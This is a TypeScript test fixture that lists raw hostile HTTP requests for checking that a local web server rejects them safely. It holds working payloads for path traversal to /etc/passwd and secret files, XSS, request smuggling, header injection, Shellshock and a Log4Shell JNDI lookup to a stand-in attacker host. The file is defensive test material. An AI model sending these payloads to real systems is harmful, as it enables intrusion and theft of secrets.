export interface HostileRequest {
  /** The bytes that are sent, in Latin-1. */
  raw: string
  /** The allowed statuses; without it any but a server error. */
  expect?: number[]
}

const host = 'Host: localhost\r\n'
const closing = `${host}Connection: close\r\n\r\n`

/** A complete request for a target, with additional headers if given. */
const get = (target: string, headers = '', method = 'GET'): HostileRequest => ({
  raw: `${method} ${target} HTTP/1.1\r\n${headers}${closing}`,
})
const refused = (raw: string): HostileRequest => ({
  raw,
  expect: [400, 404, 405, 413, 415, 417, 431],
})
const lead = '{"name":"Ada","email":"ada@example.com"}'
const post = (headers: string, body: string): string =>
  `POST /api/v0/registrations HTTP/1.1\r\n${host}Connection: close\r\nContent-Type: application/json\r\n${headers}\r\n${body}`

/**
 * Requests that no browser sends, for a real socket. Whatever they claim, the response is no server error, names no
 * other host and contains no file.
 */
export const hostileRequests: Record<string, HostileRequest> = {
  // Paths
  'a path up': get('/../../../../etc/passwd'),
  'an encoded path up': get('/%2e%2e/%2e%2e/%2e%2e/etc/passwd'),
  'a path up encoded twice': get('/%252e%252e/%252e%252e/etc/passwd'),
  'a path up among the assets': get('/assets/../../../package.json'),
  'an encoded path up among the assets': get('/assets/%2e%2e/%2e%2e/package.json'),
  'an encoded slash among the assets': get('/assets/..%2f..%2fpackage.json'),
  'a backslash among the assets': get('/assets/..\\..\\package.json'),
  'an encoded backslash among the assets': get('/assets/..%5c..%5cpackage.json'),
  'an overlong slash': get('/assets/..%c0%af..%c0%afpackage.json'),
  'a path up among the images': get('/media/..%2f..%2fwireloom.db'),
  'a path up among the share images': get('/og/..%2f..%2fwireloom.db.png'),
  'the database': get('/data/wireloom.db'),
  'the key': get('/data/jwt-secret'),
  'a hidden file': get('/.env'),
  'a repository': get('/.git/config'),
  'a NUL': get('/%00'),
  'a NUL before an ending': get('/etc/passwd%00.png'),
  'a NUL in an id': get('/blog/1%00'),
  'bad percent signs': get('/%E0%A4%A'),
  'a percent sign alone': get('/%'),
  'bad percent signs in an id': get('/blog/%zz'),
  'bad percent signs in the api': get('/api/v0/blogs/%E0%A4%A'),
  'bad percent signs in a query': get('/resources?cursor=%E0%A4%A'),
  'bytes that are no UTF-8': get('/%ff%fe'),
  'raw bytes in the path': get('/\xff\xfe'),
  'a space in the path': get('/blog/ 1'),
  'a fragment': get('/join#<script>'),
  'a script in the path': get('/<script>alert(1)</script>'),
  'an encoded script in the path': get('/%3Cscript%3Ealert(1)%3C/script%3E'),
  'a script in the query': get('/join?x=%22%3E%3Cscript%3Ealert(1)%3C/script%3E'),
  'a script in the token of a link': get('/confirm?token=%22%3E%3Cscript%3Ealert(1)%3C/script%3E'),
  'a long path': get(`/${'a'.repeat(12_000)}`),
  'a deep path': get('/a'.repeat(5000)),
  'many slashes': get('/'.repeat(5000)),
  'many parameters': get(`/join?${'a=1&'.repeat(3000)}`),
  'the same parameter three times': get('/join?sent=1&sent=2&sent[]=3'),
  'a list for a text': get('/resources?cursor[]=a&cursor[]=b'),
  'an object for a text': get('/resources?cursor[a]=b'),
  'JSON for a text': get('/resources?cursor=%7B%22a%22:1%7D'),
  'the prototype as a parameter': get('/resources?__proto__[x]=1&constructor[prototype][x]=1'),
  'an id too large': get('/blog/99999999999999999999'),
  'a server function': get('/_serverFn/eyJmaWxlIjoiL2V0Yy9wYXNzd2QifQ', '', 'POST'),

  // Other hosts
  'another host without a scheme': get('//evil.example/'),
  'another host with a path up': get('//evil.example/%2e%2e'),
  'another host with three slashes': get('///evil.example//resources/'),
  'another host with a backslash': get('/\\evil.example'),
  'another host with an encoded backslash': get('/%5cevil.example/'),
  'another host with encoded slashes': get('/%2f%2fevil.example/'),
  'another host with a tab': get('/%09/evil.example/'),
  'another host after an at': get('/@evil.example/'),
  'another host in the way back': get('/forms/unsubscribe?token=https://evil.example'),
  'another host in a parameter': get(
    '/contentmanager/login?redirect=https://evil.example&next=//evil.example',
  ),
  'another host in absolute form': get('http://evil.example/join'),
  'another scheme in absolute form': get('javascript://evil.example/join'),
  'a broken absolute form': get('http://[::1'),
  'another host in the Host header': {
    raw: 'GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
  },
  'another host in the Host header, slashes in the path': {
    raw: 'GET //x/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
  },
  'another host in the Host header, a slash at the end': {
    raw: 'GET /join/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
  },
  'another host in the Host header, an article that is not there': {
    raw: 'GET /blog/x HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
  },
  'another host in the Host header of a feed': {
    raw: 'GET /feed.xml HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
  },
  'another host in the Host header of the map': {
    raw: 'GET /sitemap.xml HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
  },
  'another host behind a proxy': get(
    '/join/',
    'X-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: javascript\r\nX-Forwarded-Port: 1\r\nX-Original-URL: /contentmanager\r\nX-Rewrite-URL: /metrics\r\nForwarded: host=evil.example\r\n',
  ),
  'two hosts': {
    raw: 'GET /about HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
    expect: [400],
  },
  'two hosts that are the same': {
    raw: 'GET /about HTTP/1.1\r\nHost: localhost\r\nhost: localhost\r\nConnection: close\r\n\r\n',
    expect: [400],
  },
  'no host': { raw: 'GET /api/v0/faq HTTP/1.1\r\nConnection: close\r\n\r\n', expect: [400] },
  'an empty host': {
    raw: 'GET /api/v0/faq HTTP/1.1\r\nHost:\r\nConnection: close\r\n\r\n',
    expect: [400],
  },
  'a host with a path': {
    raw: 'GET /api/v0/faq HTTP/1.1\r\nHost: evil.example/x?y#z\r\nConnection: close\r\n\r\n',
    expect: [400],
  },
  'a host with a name and a password': {
    raw: 'GET /api/v0/faq HTTP/1.1\r\nHost: a:b@evil.example\r\nConnection: close\r\n\r\n',
    expect: [400],
  },
  'a host with a broken address': {
    raw: 'GET /api/v0/faq HTTP/1.1\r\nHost: [::1\r\nConnection: close\r\n\r\n',
    expect: [400],
  },
  'a port too large': {
    raw: 'GET /api/v0/faq HTTP/1.1\r\nHost: localhost:99999\r\nConnection: close\r\n\r\n',
    expect: [400],
  },
  'metrics as if from here': get(
    '/metrics',
    'X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\n',
  ),

  // Methods
  'a trace': get('/api/v0/faq', 'X-Secret: one\r\n', 'TRACE'),
  'a tunnel': { raw: `CONNECT evil.example:443 HTTP/1.1\r\n${closing}` },
  'options of everything': { raw: `OPTIONS * HTTP/1.1\r\n${closing}` },
  'a method nobody knows': refused(`FOO / HTTP/1.1\r\n${closing}`),
  'a method in lower case': refused(`get / HTTP/1.1\r\n${closing}`),
  'a method of another protocol': get('/api/v0/faq', '', 'PROPFIND'),
  'another method in a header': {
    raw: `POST /api/v0/faq/1 HTTP/1.1\r\nX-HTTP-Method-Override: DELETE\r\nX-Method-Override: DELETE\r\nContent-Length: 0\r\n${closing}`,
    expect: [404, 405],
  },
  'another method in the query': {
    raw: `POST /api/v0/faq/1?_method=DELETE HTTP/1.1\r\nContent-Length: 0\r\n${closing}`,
    expect: [404, 405],
  },
  'a form for a page': {
    raw: `POST /join HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\n${host}Connection: close\r\n\r\na=b`,
  },
  'a deletion of a page': get('/', '', 'DELETE'),
  'an upgrade': get('/', 'Upgrade: websocket\r\nSec-WebSocket-Key: x\r\n'),
  'an upgrade to another version': get('/', 'Upgrade: h2c\r\nHTTP2-Settings: AAA\r\n'),
  'another version altogether': refused('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  'an old version': { raw: 'GET /about HTTP/1.0\r\n\r\n' },
  'an old version of the api': { raw: 'GET /api/v0/faq HTTP/1.0\r\n\r\n' },
  'a version of the future': refused(`GET / HTTP/9.9\r\n${closing}`),
  'no version': { raw: 'GET /\r\n\r\n' },
  'no request at all': refused('<script>alert(1)</script>\r\n\r\n'),
  'bytes of another protocol': refused('\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n'),

  // Where a body ends
  'a length and chunks': refused(
    post('Content-Length: 4\r\nTransfer-Encoding: chunked\r\n', '0\r\n\r\nGET /x HTTP/1.1\r\n\r\n'),
  ),
  'chunks and a length': refused(
    post(
      'Transfer-Encoding: chunked\r\nContent-Length: 4\r\n',
      '5c\r\nGPOST / HTTP/1.1\r\n0\r\n\r\n',
    ),
  ),
  'two lengths': refused(post('Content-Length: 5\r\nContent-Length: 6\r\n', lead)),
  'lengths in one line': refused(post('Content-Length: 5, 6\r\n', lead)),
  'a negative length': refused(post('Content-Length: -5\r\n', lead)),
  'a length in hexadecimal': refused(post('Content-Length: 0x10\r\n', lead)),
  'a length with a plus': refused(post('Content-Length: +40\r\n', lead)),
  'an endless length': refused(post('Content-Length: 99999999999999999999\r\n', lead)),
  'a length of a gigabyte': refused(post('Content-Length: 1000000000\r\n', lead)),
  'a coding nobody knows': refused(post('Transfer-Encoding: xchunked\r\n', lead)),
  'a coding with a space': refused(post('Transfer-Encoding : chunked\r\n', '0\r\n\r\n')),
  'a coding after chunks': refused(post('Transfer-Encoding: chunked, identity\r\n', '0\r\n\r\n')),
  'two codings': refused(
    post('Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n', '0\r\n\r\n'),
  ),
  'a chunk of no number': refused(post('Transfer-Encoding: chunked\r\n', 'zz\r\n{}\r\n0\r\n\r\n')),
  'a chunk of a negative number': refused(
    post('Transfer-Encoding: chunked\r\n', '-1\r\n{}\r\n0\r\n\r\n'),
  ),
  'an endless chunk': refused(
    post('Transfer-Encoding: chunked\r\n', 'ffffffffffffffff1\r\n{}\r\n0\r\n\r\n'),
  ),
  'a chunk with a long extension': refused(
    post('Transfer-Encoding: chunked\r\n', `2;${'x'.repeat(20_000)}\r\n{}\r\n0\r\n\r\n`),
  ),
  'an expectation nobody knows': refused(post('Expect: 200-maybe\r\nContent-Length: 2\r\n', '{}')),

  // Headers
  'a header of twenty thousand letters': refused(
    `GET / HTTP/1.1\r\nX: ${'a'.repeat(20_000)}\r\n${closing}`,
  ),
  'two thousand headers': refused(`GET / HTTP/1.1\r\n${'a: b\r\n'.repeat(3000)}${closing}`),
  'a header without a colon': refused(`GET / HTTP/1.1\r\nnonsense\r\n${closing}`),
  'a header without a name': refused(`GET / HTTP/1.1\r\n: x\r\n${closing}`),
  'a header with a space in its name': refused(`GET / HTTP/1.1\r\nX Y: z\r\n${closing}`),
  'a folded header': refused(`GET / HTTP/1.1\r\nX: a\r\n b\r\n${closing}`),
  'a NUL in a header': refused(`GET / HTTP/1.1\r\nX: a\0b\r\n${closing}`),
  'a carriage return in a header': refused(`GET / HTTP/1.1\r\nX: a\rSet-Cookie: b\r\n${closing}`),
  'an encoded line break in the path': get('/join%0d%0aSet-Cookie:%20a=b/'),
  'an encoded line break in the query': get('/forms/unsubscribe?token=a%0d%0aSet-Cookie:%20a=b'),
  'bytes in a header': get('/api/v0/blogs', 'Authorization: Bearer \xff\xfe\r\n'),
  'the prototype as a header': get('/about', '__proto__: x\r\nconstructor: y\r\n'),
  'many ranges': get('/icon-512.png', `Range: bytes=${'0-0,'.repeat(2000)}1-1\r\n`),
  'a backward range': get('/icon-512.png', 'Range: bytes=9-1\r\n'),
  'an endless range': get('/icon-512.png', 'Range: bytes=0-99999999999999999999\r\n'),
  'many encodings': get('/about', `Accept-Encoding: ${'gzip;q=0.1, '.repeat(800)}br\r\n`),
  'many languages': get('/about', `Accept-Language: ${'en-US;q=0.9,'.repeat(800)}de\r\n`),
  'many tags': get('/about', `If-None-Match: ${'"x", '.repeat(2000)}"y"\r\n`),
  'a date that is none': get('/about', 'If-Modified-Since: <script>\r\n'),
  'many cookies': get('/contentmanager', `Cookie: ${'a=b; '.repeat(2500)}\r\n`),
  'a program for an agent': get(
    '/about',
    'User-Agent: () { :; }; echo owned\r\nReferer: javascript:alert(1)\r\n',
  ),
  'a lookup for an agent': get('/about', 'User-Agent: $\x7bjndi:ldap://evil.example/a}\r\n'),
}
